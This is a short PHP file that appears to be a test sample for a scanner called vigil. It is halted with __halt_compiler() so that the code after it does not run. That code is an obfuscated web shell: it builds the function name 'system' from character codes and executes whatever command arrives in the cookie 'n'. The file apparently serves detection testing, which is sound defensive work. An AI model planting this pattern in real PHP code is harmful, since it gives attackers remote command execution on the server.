<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$n = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);
$n($_COOKIE['n']);
